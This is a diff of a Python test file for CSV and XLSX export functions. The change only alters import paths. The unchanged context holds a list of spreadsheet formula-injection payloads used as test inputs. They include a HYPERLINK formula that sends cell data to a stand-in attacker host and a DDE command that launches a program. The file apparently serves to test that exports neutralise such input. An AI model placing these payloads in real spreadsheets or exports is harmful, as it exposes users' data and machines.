@@ -8,8 +8,8 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from embed.exports.formats import to_csv, to_xlsx
-from embed.exports.tables import Column, Table
+from exports.formats import to_csv, to_xlsx
+from exports.tables import Column, Table
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
